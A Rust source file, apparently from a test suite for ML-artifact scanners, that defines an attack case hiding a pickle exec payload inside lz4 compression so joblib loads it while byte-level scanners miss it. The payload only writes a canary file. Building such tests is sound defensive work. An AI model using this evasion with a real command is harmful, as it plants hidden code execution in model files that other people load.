//! A payload inside lz4, where nobody who looks for opcodes finds them.

use super::*;

use super::payload::Compression;

/// `builtins.exec` behind one layer of lz4.
pub const ATTACK: Attack = Attack {
    id: "compressed-lz4",
    title: "a payload compressed with lz4",
    summary: "joblib recognizes lz4 by the first bytes and loads what is inside. A scanner that \
              reads the file as it lies there sees neither an opcode nor the name builtins.exec. \
              The package lz4 has to be there where it is loaded.",
    severity: Severity::Critical,
    targets: Targets::PythonWith(&[Loader::Joblib], "lz4"),
    techniques: &[
        techniques::PYTHON,
        techniques::OBFUSCATED_FILES_OR_INFORMATION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 693],
    references: &[Reference {
        title: "joblib documentation: persistence",
        url: "https://joblib.readthedocs.io/en/latest/persistence.html",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    payload::compressed(ATTACK.id, target, Compression::Lz4, |assembler| {
        let source = format!("import os\nos.system({})\n", payload::quoted(&command));
        payload::exec(assembler, &source);
    })
}
